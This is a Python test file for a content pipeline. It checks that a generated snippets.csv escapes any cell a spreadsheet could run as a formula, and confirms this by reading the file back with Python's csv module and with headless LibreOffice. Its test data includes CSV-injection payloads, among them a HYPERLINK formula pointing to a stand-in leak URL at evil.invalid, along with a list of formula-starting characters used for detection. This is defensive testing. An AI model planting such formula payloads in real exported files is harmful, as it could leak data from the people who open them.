"""snippets.csv opens safely in a spreadsheet: no cell is run as a formula (CSV injection).

The oracle is Python's ``csv`` module reading the built file back, and this file's own list of
what a spreadsheet may run (OWASP's CSV Injection page and WSTG-INPV-21), not the renderer's.
LibreOffice Calc (Debian's libreoffice-calc-nogui, installed by scripts/system-deps) opens the
file too, and no cell of the sheet may be a formula; without it these tests skip locally and
fail under $CI.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.build import build
from pipeline.config import Config
from pipeline.render import social
from pipeline.render.social_platforms import PLATFORMS
from tests.browser import require_tool
from tests.helpers import tree_digest, write_article

TODAY = dt.date(2026, 4, 1)
DATE = "2026-03-02T08:30:00+01:00"
# Titles a writer could paste, each beginning the way a formula does; the slug is the file name.
DANGEROUS_TITLES = {
    "equals": '=HYPERLINK("http://evil.invalid/?leak","click")',
    "at": "@SUM(1+1)",
    "minus": "-2+3",
    "plus": "+1+1 ways to rest",
    "fullwidth-equals": "＝1+1",
    "fullwidth-plus": "＋1+1",
    "fullwidth-minus": "－2+3",
    "fullwidth-at": "＠SUM(1,1)",
}
# Not a formula, but escaped so that dropping one leading ' always restores the post.
QUOTED_TITLE = "'Tis the season for stiff knees"
# Left as they are: a formula character later in the text starts no cell when the file is read
# with ',' (read with ';', it would: see the README).
NORMAL_TITLES = {"normal": "Neck pain at work", "semicolon": "Stretch;=1+1;daily",
                 "dash": "Neck pain - what helps"}
ESCAPED = {*DANGEROUS_TITLES, "quoted"}
SUMMARY = '=HYPERLINK("http://evil.invalid/","more") is not how pain works. Rest helps.'
HOOK_FIRST = "{{ hook }}\n\n{{ link }}\n{{ short_disclaimer }}\n"

# What a spreadsheet may run as a formula when a cell starts with it: OWASP's characters, the
# fullwidth and small forms, and the same after whitespace that a reader may trim first.
FORMULA_STARTS = tuple("=+-@＝＋－＠﹦﹢﹣﹫")
CONTROL_STARTS = ("\t", "\r", "\n")
ODF_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(CONTROL_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


def write_articles(folder: Path) -> dict[str, str]:
    """One article per title (and one whose summary and tags start like formulas); their
    titles by slug."""
    titles = {**DANGEROUS_TITLES, "quoted": QUOTED_TITLE, **NORMAL_TITLES}
    for slug, title in titles.items():
        write_article(folder, f"{slug}.md", title=title, date=DATE)
    titles["summary"] = "Rest and pain"
    write_article(folder, "summary.md", title=titles["summary"], date=DATE,
                  extra=f"summary: '{SUMMARY}'\ntags: ['@home', '-stretch', '=sum', '+plus']")
    return titles


def build_into(root: Path, name: str, templates: Path | None = None) -> Path:
    # One process and no cache, so a monkeypatched renderer is the one that runs.
    build(root / "articles", root / name, Config(), templates_dir=templates, today=TODAY,
          use_cache=False, jobs=1)
    return root / name


def read_rows(output: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(
        (output / social.CSV_PATH).read_bytes().decode("utf-8"), newline="")))


def posts_of(output: Path, slug: str) -> dict[str, str]:
    posts: dict[str, str] = json.loads((output / social.json_path(slug)).read_text("utf-8"))
    return posts


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    root = tmp_path_factory.mktemp("csv")
    titles = write_articles(root / "articles")
    build_into(root, "out")
    return root, titles


# --- The escape itself -----------------------------------------------------------------------

@pytest.mark.parametrize("cell", [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", '=HYPERLINK("http://evil.invalid","x")',
    "\t=1+1", "\tplain", "\r=1+1", "\rplain", "\nplain",
    " =1+1", "   @SUM(1,1)", " \t-2+3", "\u00a0=1+1", "\u3000＝1+1",
    "＝1+1", "＋1", "－2+3", "＠SUM(1,1)", "﹦1+1", "﹫x",
    "'Tis", "'=1+1",
])
def test_a_cell_a_spreadsheet_could_run_gets_a_leading_quote(cell: str) -> None:
    assert social.spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    "", "plain", " plain", "#NeckPain", "https://example.com/a/?utm_source=x", DATE,
    "neck-pain-at-work", "x", "a=b", "1-2", "write@example.com", "Move.\n=1+1 on a later line",
    "€5", "＃首の痛み", "–2 (an en dash)",
])
def test_an_ordinary_cell_is_unchanged(cell: str) -> None:
    assert social.spreadsheet_safe(cell) == cell


@settings(max_examples=300, deadline=None)
@given(st.tuples(st.sampled_from(["", " ", "\t", "\u3000", "'", *FORMULA_STARTS]),
                 st.text(max_size=20)).map("".join))
def test_the_escape_is_safe_and_one_quote_undoes_it(cell: str) -> None:
    escaped = social.spreadsheet_safe(cell)
    assert escaped in (cell, "'" + cell)
    assert not runs_as_formula(escaped)
    restored = escaped[1:] if escaped.startswith("'") else escaped
    assert restored == cell


def test_the_oracle_and_the_renderer_agree_on_the_fullwidth_forms() -> None:
    # The oracle lists the characters by hand; the renderer folds them with NFKC.
    assert {unicodedata.normalize("NFKC", char) for char in FORMULA_STARTS} == set("=+-@")


# --- A build ---------------------------------------------------------------------------------

def test_no_cell_of_the_built_csv_starts_a_formula(project: tuple[Path, dict[str, str]]
                                                   ) -> None:
    root, titles = project
    rows = read_rows(root / "out")
    assert rows[0] == list(social.CSV_COLUMNS)
    assert len(rows) == 1 + len(titles) * len(PLATFORMS)
    for row in rows:
        for cell in row:
            assert not runs_as_formula(cell), row


def test_escaped_cells_are_a_quote_then_the_post_and_the_rest_are_unchanged(
        project: tuple[Path, dict[str, str]]) -> None:
    root, titles = project
    rows = read_rows(root / "out")[1:]
    seen = set()
    for slug, platform, text, link, date in rows:
        post = posts_of(root / "out", slug)[platform]
        # The post itself (social/<slug>.json) keeps the writer's title exactly.
        assert post.startswith(titles[slug]), (slug, platform, post)
        if slug in ESCAPED:
            assert text == "'" + post, (slug, platform)
            seen.add(slug)
        else:
            assert text == post, (slug, platform)
        assert link == f"https://example.com/{slug}/"  # no UTM configured
        assert date == DATE and platform in PLATFORMS
    assert seen == ESCAPED


def test_every_cell_is_quoted_in_the_file(project: tuple[Path, dict[str, str]]) -> None:
    root, _ = project
    raw = (root / "out" / social.CSV_PATH).read_bytes().decode("utf-8")
    rows = read_rows(root / "out")
    assert raw.startswith('"slug","platform","text","link","scheduled_date"\r\n')
    # Rewritten with every cell quoted, the rows give back the very same bytes.
    again = io.StringIO()
    csv.writer(again, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert again.getvalue() == raw
    assert "\"'=HYPERLINK(\"\"http://evil.invalid/?leak\"\",\"\"click\"\")" in raw


def test_only_the_csv_differs_from_a_build_without_the_escape(
        project: tuple[Path, dict[str, str]], monkeypatch: pytest.MonkeyPatch) -> None:
    root, _ = project
    monkeypatch.setattr(social, "spreadsheet_safe", lambda cell: cell)
    plain = build_into(root, "out-unescaped")
    escaped, unescaped = tree_digest(root / "out"), tree_digest(plain)
    assert escaped.keys() == unescaped.keys()
    differing = {path for path in escaped if escaped[path] != unescaped[path]}
    assert differing == {social.CSV_PATH}
    assert any(runs_as_formula(cell) for row in read_rows(plain) for cell in row)


def test_a_summary_or_tags_first_in_a_template_are_escaped_too(tmp_path: Path) -> None:
    write_articles(tmp_path / "articles")
    templates = tmp_path / "templates"
    (templates / "social").mkdir(parents=True)
    (templates / "social/x.txt.j2").write_text(HOOK_FIRST)
    (templates / "social/mastodon.txt.j2").write_text(
        "{{ hashtags | join(' ') }}\n{{ title }}\n{{ link }}\n{{ short_disclaimer }}\n")
    output = build_into(tmp_path, "out", templates)
    rows = {(row[0], row[1]): row for row in read_rows(output)[1:]}
    posts = posts_of(output, "summary")
    assert posts["x"].startswith(SUMMARY.split(" is ")[0])
    assert rows["summary", "x"][2] == "'" + posts["x"]
    # Tags become hashtags, which start with '#': nothing to escape, nothing lost.
    assert posts["mastodon"].startswith("#Home #Stretch #Sum")  # three by default
    assert rows["summary", "mastodon"][2] == posts["mastodon"]
    assert not any(runs_as_formula(cell) for row in rows.values() for cell in row)


# --- LibreOffice ---------------------------------------------------------------------------------

# CSV import options: separator ',', text delimiter '"', UTF-8 (76), from line 1; the long form
# also ticks "Trim spaces" (the 11th option).
COMMA = "44,34,76,1"
COMMA_TRIMMED = "44,34,76,1,,0,false,true,false,false,true"


def open_in_libreoffice(tmp_path: Path, options: str, *files: Path
                        ) -> list[list[tuple[str | None, str]]]:
    """Each file as LibreOffice Calc imports it: every cell's formula (None for a value) and
    text, read from the ODS it saves."""
    soffice = require_tool("soffice", hint="scripts/system-deps (Debian's libreoffice-calc-nogui)")
    out = tmp_path / "ods"
    subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
                    "--headless", f"--infilter=CSV:{options}", "--convert-to", "ods",
                    "--outdir", str(out), *map(str, files)],
                   check=True, capture_output=True, timeout=300)
    sheets = []
    for path in files:
        content = zipfile.ZipFile(out / f"{path.stem}.ods").read("content.xml")
        sheets.append([(cell.get(f"{ODF_TABLE}formula"), "".join(cell.itertext()))
                       for cell in ET.fromstring(content).iter(f"{ODF_TABLE}table-cell")])
    return sheets


def write_csv(path: Path, cells: list[str], quoting: int) -> Path:
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream, lineterminator="\r\n", quoting=quoting).writerows(
            [cell] for cell in cells)
    return path


def formulas(sheet: list[tuple[str | None, str]]) -> list[str]:
    return [formula for formula, _ in sheet if formula]


def test_libreoffice_runs_no_formula_from_the_built_csv(project: tuple[Path, dict[str, str]],
                                                        tmp_path: Path) -> None:
    root, _ = project
    titles = [*DANGEROUS_TITLES.values(), " =1+1", "\t=1+1"]
    # The control: each title alone in a cell, written as before the fix. LibreOffice runs
    # the '=' ones (it leaves '+', '-', '@' and the fullwidth forms as text; Excel may not).
    before = write_csv(tmp_path / "before.csv", titles, csv.QUOTE_MINIMAL)
    after = write_csv(tmp_path / "after.csv", [social.spreadsheet_safe(t) for t in titles],
                      csv.QUOTE_ALL)
    built, control, escaped = open_in_libreoffice(
        tmp_path, COMMA, root / "out" / social.CSV_PATH, before, after)
    assert 'of:=HYPERLINK("http://evil.invalid/?leak";"click")' in formulas(control)
    assert formulas(escaped) == []
    assert formulas(built) == []
    # The quote shows, so an editor sees the cell was escaped (the README says why).
    assert any(text.startswith('\'=HYPERLINK("http://evil.invalid/?leak","click")')
               for _, text in built)


def test_libreoffice_trimming_spaces_runs_no_formula_after_whitespace(tmp_path: Path) -> None:
    cells = [" =1+1", "   =2+2"]
    before = write_csv(tmp_path / "before.csv", cells, csv.QUOTE_MINIMAL)
    after = write_csv(tmp_path / "after.csv", [social.spreadsheet_safe(c) for c in cells],
                      csv.QUOTE_ALL)
    control, escaped = open_in_libreoffice(tmp_path, COMMA_TRIMMED, before, after)
    assert formulas(control) == ["of:=1+1", "of:=2+2"]  # trimmed, then run
    assert formulas(escaped) == []
